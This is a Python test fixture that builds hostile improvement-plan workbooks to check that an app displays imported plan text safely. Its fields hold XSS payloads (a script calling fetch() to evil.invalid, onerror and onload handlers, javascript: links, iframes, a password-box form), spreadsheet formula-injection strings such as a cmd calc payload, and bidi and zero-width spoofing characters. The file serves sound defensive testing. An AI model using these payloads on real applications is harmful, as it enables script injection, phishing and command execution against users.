"""A hostile improvement plan: a canonical-template workbook whose every free-text field is an
attack on whoever views it, with made-up strings only (no real data).

Each text holds HTML (an image, a form with a password box, a style sheet, a script, a
javascript: link, an iframe, elements carrying the marker ids and classes in MARKERS), Markdown
and Streamlit's own extras (an image, links, bare web addresses, :red[...], a Material icon,
LaTeX, bold, headings, list markers), spreadsheet formulas written as text, and bidi and
zero-width characters. The recommendation, theme, action, due-wording, progress-note and
evidence fields are 10,000 characters long, one action's text holding a 400-character address
with no space to break at. Lead names are hostile too but kept to the 200 characters the
importer allows; "Rebecca<U+200B>Hollis" sits next to "Rebecca Hollis".

Every host named is under evil.invalid (RFC 2606: it can never resolve), so a request for it is
proof that plan text became markup. The plan is dated so that, on tests.conftest.AS_AT, some
actions are overdue, some due soon, one stale, one complete and one undated.

    path = write_hostile_plan(folder)             # the plan itself, with a hostile title row
    earlier = write_earlier_plan(folder)          # a one-action plan under a hostile file name
"""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

from openpyxl import load_workbook

from readiness.exports.blank_template import write_template
from readiness.files.free_text import clean_text
from readiness.plan.canonical import CANONICAL_COLUMNS

EVIL_HOST = "evil.invalid"
# What must show, as these very characters, on every page that shows plan text.
IMAGE_MD = f"![x](http://{EVIL_HOST}/md.png)"
# Ids and classes that exist in the page only if plan text became HTML.
MARKERS = (
    "injected-img",
    "injected-form",
    "injected-password",
    "injected-style",
    "injected-script",
    "injected-js",
    "injected-iframe",
    "injected-section",
    "injected-class",
    "injected-svg",
    "injected-entity",
    "injected-lead",
    "injected-title",
    "injected-file",
    "injected-link",
    "injected-status",
    "injected-area",
)
# What the page's title would become if a <title> or a script from the plan took effect.
PWNED = "pwned"
FIELD_LENGTH = 10_000

ZWSP, BOM, RLO, LRI = "\u200b", "\ufeff", "\u202e", "\u2066"

HTML = (
    f'<img src=http://{EVIL_HOST}/x.png id="injected-img" onerror="alert(1)">',
    f'<form action=http://{EVIL_HOST} id="injected-form"><input type=password '
    'id="injected-password" placeholder="Password"></form>',
    '<style id="injected-style">*{opacity:.1 !important}body{opacity:.1}</style>',
    f"<script id=\"injected-script\">document.title='{PWNED}';fetch('http://{EVIL_HOST}/js')"
    "</script>",
    '<a href="javascript:alert(1)" id="injected-js">javascript link</a>',
    f'<iframe src="http://{EVIL_HOST}/frame" id="injected-iframe"></iframe>',
    '<section id="injected-section" class="injected-class">injected section</section>',
    '<svg id="injected-svg" onload="alert(1)"></svg>',
    f'<link rel="stylesheet" href="http://{EVIL_HOST}/sheet.css">',
    f'<meta http-equiv="refresh" content="0;url=http://{EVIL_HOST}/refresh">',
    f'<base href="http://{EVIL_HOST}/">',
    f"<title>{PWNED}</title>",
    # A <b> tag makes the importer read the cell as pasted HTML, which decodes entities: the
    # escaped image below is stored as a real-looking <img> tag, and must still show as text.
    f"<b>bold tag</b> &lt;img src=http://{EVIL_HOST}/entity.png id=injected-entity&gt;",
)
MARKDOWN = (
    IMAGE_MD,
    f"[link](http://{EVIL_HOST})",
    f"http://{EVIL_HOST}/bare",
    f"www.{EVIL_HOST}",
    f"<http://{EVIL_HOST}/autolink>",
    f"mail@{EVIL_HOST}",
    ":red[red text] :blue-background[blue ground]",
    ":material/rocket_launch: :rocket:",
    "$x^2$ $$\\frac{1}{2}$$",
    "**bold** _italic_ ~~struck~~ `code`",
    f"[reference link][r] [r]: http://{EVIL_HOST}/ref",
)
# Markdown that only counts at the start of a line: for the fields that keep their lines.
MARKDOWN_LINES = (
    "# Heading one",
    "## Heading two",
    "- list item",
    "1. numbered item",
    "> quoted",
    "---",
    "```",
    "fenced code",
    "```",
    f"[r]: http://{EVIL_HOST}/ref",
)
FORMULAS = (
    f'=HYPERLINK("http://{EVIL_HOST}","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
)
# Bidi and zero-width characters inside words; the importer strips them.
INVISIBLES = f"Ad{RLO}min {LRI}txt.exe{ZWSP} ze{ZWSP}ro wi{BOM}dth"
# An address with nowhere to break: a long cell must still wrap, or be cut, not widen the page.
LONG_ADDRESS = f"http://{EVIL_HOST}/" + "a" * 380

# Lead names: hostile, but within the importer's 200 characters and without its separators
# (/ , ; & " and ") outside brackets; a \ in an http address is read by browsers as a /.
LEAD_EVE = (
    f"Eve {IMAGE_MD} Mallory <img src=http:\\\\{EVIL_HOST}\\lead.png id=injected-lead> "
    f":red[Red] (:material/rocket_launch:) $x^2$ **Bold** # Hollis"
)
LEAD_FORMULA = (
    f'=HYPERLINK("http:\\\\{EVIL_HOST}") Trent @SUM(1) <style>*{{opacity:.1}}<\\style> Oscar'
)
REBECCA = "Rebecca Hollis"
# The same person with a zero-width space for the space, and with invisible characters inside.
REBECCA_ZERO_WIDTH = f"Rebecca{ZWSP}Hollis"
REBECCA_DISGUISED = f"Reb{ZWSP}ecca Hol{RLO}lis{BOM}"
COUNCIL = f"{IMAGE_MD} <img id=injected-title src=http://{EVIL_HOST}/council.png> Council"
TITLE = (
    f"{IMAGE_MD} <img src=http://{EVIL_HOST}/title.png id=injected-title> "
    f"<title>{PWNED}</title> :material/rocket_launch: $x^2$ " + "Improvement plan " * 20
)
# A file name holds anything but "/" (and NUL): the earlier plan's title is taken from it.
EARLIER_FILE = (
    f"![x](http:\\\\{EVIL_HOST}\\file.png) <img src=x id=injected-file> :red[plan] $x^2$ "
    f"www.{EVIL_HOST} **earlier**.xlsx"
)
EARLIER_ACTION = f"{IMAGE_MD} The earlier plan's only action."
# The hostile plan, changed, under a hostile name, to upload on the Data page; and a copy whose
# status and judgement-area cells are hostile and so refused, for the list of problems. Single
# backslashes: the server's form parser reads a doubled one in an uploaded file's name as one.
UPLOAD_FILE = (
    f"![x](http:\\{EVIL_HOST}\\upload.png) <img src=x id=injected-file> :red[upload] "
    "$x^2$ plan.xlsx"
)
BROKEN_FILE = f"<img src=x id=injected-file> ![x](http:\\{EVIL_HOST}\\broken.png) broken.xlsx"
BAD_STATUS = f"<img src=http://{EVIL_HOST}/status.png id=injected-status> :red[Nearly] $x^2$"
BAD_AREA = f"{IMAGE_MD} <img src=http://{EVIL_HOST}/area.png id=injected-area>"
# A sent link whose lead and as-at date are hostile: the page says what it ignored, as text.
LINK_LEAD = (
    f"{IMAGE_MD} <img src=http://{EVIL_HOST}/link.png id=injected-link> :red[Nobody] "
    "(:material/rocket_launch:) $x^2$ **Here**"
)
LINK_AS_AT = f"<script id=injected-script>alert(1)</script> ![d](http://{EVIL_HOST}/date.png)"


def hostile(label: str, length: int | None = None, lines: bool = False, extra: str = "") -> str:
    """A field's hostile text: the image, its label, `extra`, every payload; padded to `length`.

    With `lines`, the line-start Markdown is put on lines of its own (the importer keeps the
    lines of action, note, evidence and due-wording cells, and joins the others onto one). The
    padding makes the text `length` characters long as stored, after the importer has dropped
    its invisible characters and the tags it strips (the cell itself is a little longer).
    """
    parts = [
        f"{IMAGE_MD} {label}",
        *([extra] if extra else []),
        *HTML,
        *MARKDOWN,
        *FORMULAS,
        INVISIBLES,
    ]
    text = " ".join(parts)
    if lines:
        text += "\n" + "\n".join(MARKDOWN_LINES)
    if length is None:
        return text
    stored = len(clean_text(text, "\n"))
    filler = f" {label}: words that wrap between words **more** {IMAGE_MD}"
    padding = filler * (1 + (length - stored) // len(filler))
    return text + padding[: length - stored]


def _row(**values) -> list:
    return [values.get(c.key) for c in CANONICAL_COLUMNS]


def _put(sheet, row: int, values: list) -> None:
    """Write a row; text starting with "=" is stored as text, as Excel does after a quote."""
    for column, value in enumerate(values, 1):
        cell = sheet.cell(row=row, column=column, value=value)
        if isinstance(value, str) and value.startswith("="):
            cell.data_type = "s"  # openpyxl would otherwise store it as a formula


def _rows() -> list[list]:
    big = FIELD_LENGTH
    rec1 = hostile("Recommendation one", big)
    rec2 = hostile("Recommendation two")
    afd = hostile("Area for development one")
    apa = hostile("Area for priority action one")
    theme1 = hostile("Theme one", big)
    theme2 = hostile("Theme two")
    theme3 = hostile("Theme three")
    day = datetime
    return [
        _row(  # overdue on AS_AT, led by the hostile leads, every long field filled
            ref="REC 1",
            recommendation=rec1,
            judgement_areas="Help and protection, Children in care",
            theme=theme1,
            action=hostile("Action one", big, lines=True, extra=LONG_ADDRESS),
            service_leads=f"{LEAD_EVE} / {REBECCA}",
            other_leads=f"{LEAD_FORMULA}\nTeam <b>managers</b>",
            start=day(2026, 4, 1),
            due=day(2026, 9, 30),
            status="In progress",
            progress_note=hostile("Progress note one", big, lines=True),
            progress_date=day(2026, 10, 1),
            evidence=hostile("Evidence one", big, lines=True),
        ),
        _row(  # due soon
            ref="REC 1",
            recommendation=rec1,
            theme=theme1,
            action=hostile("Action two", lines=True),
            service_leads=REBECCA,
            start=day(2026, 5, 1),
            due=day(2026, 12, 1),
            status="In progress",
            progress_note=hostile("Progress note two", lines=True),
            progress_date=day(2026, 11, 15),
        ),
        _row(  # no due date: its 10,000 characters of due wording show in "Why"
            ref="REC 1",
            recommendation=rec1,
            theme=theme2,
            action=hostile("Action three", lines=True),
            service_leads=REBECCA_ZERO_WIDTH,
            other_leads=LEAD_EVE,
            due_text=hostile("Due wording", big, lines=True),
            status="Not started",
        ),
        _row(  # overdue, not started
            ref="REC 2",
            kind="REC",
            recommendation=rec2,
            judgement_areas="Care leavers",
            theme=theme3,
            action=hostile("Action four", lines=True),
            service_leads=f"{LEAD_EVE}\n{REBECCA_DISGUISED}",
            start=day(2026, 6, 1),
            due=day(2026, 10, 15),
            status="Not started",
        ),
        _row(  # complete
            ref="REC 2",
            recommendation=rec2,
            theme=theme3,
            action=hostile("Action five", lines=True),
            service_leads=LEAD_FORMULA,
            start=day(2026, 3, 1),
            due=day(2026, 8, 30),
            completed=day(2026, 8, 1),
            status="Complete",
            evidence=hostile("Evidence five", big, lines=True),
            progress_note=hostile("Progress note five", lines=True),
            progress_date=day(2026, 8, 1),
        ),
        _row(  # stale: no update for months, due next year
            ref="AFD 1",
            recommendation=afd,
            judgement_areas="Care leavers, Impact of leaders",
            theme=hostile("Theme four"),
            action=hostile("Action six", lines=True),
            service_leads=LEAD_EVE,
            start=day(2026, 2, 1),
            due=day(2027, 3, 1),
            status="In progress",
            progress_note=hostile("Progress note six", lines=True),
            progress_date=day(2026, 6, 1),
        ),
        _row(  # overdue, an area for priority action
            ref="APA 1",
            recommendation=apa,
            judgement_areas="Impact of leaders",
            theme=hostile("Theme five"),
            action=hostile("Action seven", lines=True),
            service_leads=LEAD_FORMULA,
            other_leads=LEAD_EVE,
            start=day(2026, 1, 1),
            due=day(2026, 7, 31),
            status="In progress",
            progress_note=hostile("Progress note seven", lines=True),
            progress_date=day(2026, 7, 1),
        ),
    ]


def write_hostile_plan(folder: Path, name: str = "hostile-plan.xlsx", variant: str = "") -> Path:
    """The blank template (readiness.exports.blank_template) filled with the hostile plan, its title
    in a row above the headings.

    variant "broken" makes two cells of its first row unreadable (the file is refused);
    "changed" rewords one action and the undated action's due wording, and drops the last
    action, so that, imported over the plan, it lists what changed.
    """
    rows = _rows()
    keys = [c.key for c in CANONICAL_COLUMNS]
    if variant == "broken":
        rows[0][keys.index("status")] = BAD_STATUS
        rows[0][keys.index("judgement_areas")] = BAD_AREA
    elif variant == "changed":
        rows[1][keys.index("action")] = hostile("Action two reworded", lines=True)
        rows[2][keys.index("due_text")] = hostile("Due wording changed", FIELD_LENGTH, lines=True)
        rows.pop()
    path = write_template(Path(folder) / name)
    book = load_workbook(path)
    sheet = book["Plan"]
    sheet.delete_rows(2)  # the template's example row
    sheet.insert_rows(1, 2)  # the title, then a blank row, above the headings
    sheet.cell(row=1, column=1, value=TITLE)
    for offset, values in enumerate(rows):
        _put(sheet, 4 + offset, values)
    book.save(path)
    return path


def write_earlier_plan(folder: Path) -> Path:
    """A one-action plan with no title row, so its title is its hostile file name."""
    path = write_template(Path(folder) / EARLIER_FILE)
    book = load_workbook(path)
    sheet = book["Plan"]
    sheet.delete_rows(2)
    values = _row(
        ref="REC 1",
        recommendation=hostile("Earlier recommendation"),
        theme="Earlier theme",
        action=EARLIER_ACTION,
        service_leads=REBECCA,
        due=datetime(2026, 12, 31),
    )
    _put(sheet, 2, values)
    book.save(path)
    return path
